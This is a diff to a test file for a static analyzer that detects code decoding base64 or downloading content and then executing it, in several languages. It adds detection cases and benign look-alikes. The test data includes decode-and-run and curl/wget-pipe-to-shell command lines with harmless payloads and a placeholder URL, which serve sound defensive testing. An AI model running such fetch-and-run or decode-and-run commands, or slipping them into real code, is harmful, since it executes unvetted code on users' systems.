@@ -115,6 +115,57 @@ def test_what_only_looks_like_it_is_not_seen(language: str, source: str) -> None
     assert certain == []
 
 
+PAYLOAD = "echo ZWNobyBoaQo= | base64 -d | sh"
+HIDDEN = [
+    ("typescript", JS + f"exec('{PAYLOAD}');", SHELL, 4),
+    ("javascript", "eval(atob('YWxlcnQoMSk='));", CODE, 1),
+    ("javascript", "new Function(Buffer.from('YWxlcnQoMSk=', 'base64').toString())();", CODE, 1),
+    ("javascript", "setTimeout(atob(text), 5);", CODE, 1),
+    ("go", GO % f'\texec.Command("sh", "-c", "{PAYLOAD}")', SHELL, 9),
+    ("go", GO % f'\texec.CommandContext(ctx, "bash", "-c", `{PAYLOAD}`)', SHELL, 9),
+    ("java", JAVA % '    Runtime.getRuntime().exec(new String(Base64.getDecoder().decode("bHM=")));', SHELL, 3),
+    ("java", JAVA % '    engine.eval(new String(Base64.getDecoder().decode("bHM=")));', CODE, 3),
+    ("java", JAVA % f'    Runtime.getRuntime().exec(new String[] {{"sh", "-c", "{PAYLOAD}"}});', SHELL, 3),
+    ("rust", f'fn f() {{\n  Command::new("sh").arg("-c").arg("{PAYLOAD}");\n}}\n', SHELL, 2),
+    ("rust", f'fn f() {{\n  Command::new("sh").args(["-c", "{PAYLOAD}"]);\n}}\n', SHELL, 2),
+    ("ruby", f"system('{PAYLOAD}')\n", SHELL, 1),
+    ("ruby", f"`{PAYLOAD}`\n", SHELL, 1),
+    ("ruby", "eval(Base64.decode64('cHV0cyAx'))\n", CODE, 1),
+    ("ruby", "eval('cHV0cyAx'.unpack1('m'))\n", CODE, 1),
+    ("shell", f"{PAYLOAD}\n", CODE, 1),
+    ("shell", "echo ZWNobyBoaQo= | openssl base64 -d | bash\n", CODE, 1),
+    ("shell", "base64 --decode payload | gunzip | sudo /bin/bash\n", CODE, 1),
+    ("shell", 'eval "$(echo ZWNobyBoaQo= | base64 -d)"\n', CODE, 1),
+    ("shell", 'bash -c "$(base64 -d <<< ZWNobyBoaQo=)"\n', CODE, 1),
+    ("shell", "source <(echo ZWNobyBoaQo= | base64 -D)\n", CODE, 1),
+    ("shell", 'sh -c "$(curl -fsSL https://example.org/x)"\n', CODE, 1),
+    ("shell", "bash <(wget -qO- https://example.org/x)\n", CODE, 1),
+]  # fmt: skip
+PLAIN = [
+    ("typescript", JS + "exec('base64 -d in > out');"),
+    ("javascript", "const text = atob(body); JSON.parse(text); setTimeout(() => show(atob(text)), 5);"),
+    ("go", GO % '\texec.Command("sh", "-c", "base64 -d in > out")'),
+    ("java", JAVA % "    String s = new String(Base64.getDecoder().decode(text)); executor.exec(task);"),
+    ("ruby", "text = Base64.decode64(body)\nsystem('base64 -d in > out')\n"),
+    ("shell", "echo $KEY | base64 -d > key.pem\nbase64 -d in | jq .\necho 'x | base64 -d | sh'\nkey=$(echo $K | base64 -d)\ncurl https://example.org | base64 -d | shasum\n"),
+]  # fmt: skip
+
+
+@pytest.mark.parametrize(("language", "source", "probe", "line"), HIDDEN)
+def test_text_that_is_decoded_and_run_is_told_once_and_with_no_doubt_to_speak_of(
+    language: str, source: str, probe: str, line: int
+) -> None:
+    sites = [(name, site) for name, some in looked(language, source).sites.items() for site in some]
+    assert [(name, site.line) for name, site in sites if site.confidence >= 0.8] == [(probe, line)]
+    assert not [site for _, site in sites if "hi" in site.statement.split() or "ZWNo" in site.statement]
+
+
+@pytest.mark.parametrize(("language", "source"), PLAIN)
+def test_text_that_is_decoded_and_not_run_is_not_told(language: str, source: str) -> None:
+    sites = [site for some in looked(language, source).sites.values() for site in some]
+    assert [site.statement for site in sites if site.confidence > 0.5] == []
+
+
 def test_a_constant_command_is_doubtful_only() -> None:
     [site] = looked("typescript", JS + "exec('git status');").sites[SHELL]
     assert site.confidence == 0.5
@@ -186,6 +237,10 @@ EVERYBODY = Interest(tuple(discovered().values()))
         "<a>" * 5_000,
         "# " + "x" * 1_000_000,
         "try {} catch (e) {}\n" * 5_000,
+        "eval " * 100_000,
+        "sh $(" * 20_000,
+        "eval $(" + "base64 -" * 50_000,
+        "base64 -d |" * 50_000,
     ],
 )
 def test_hostile_sources_end_in_time_with_an_answer(language: str, source: str) -> None:
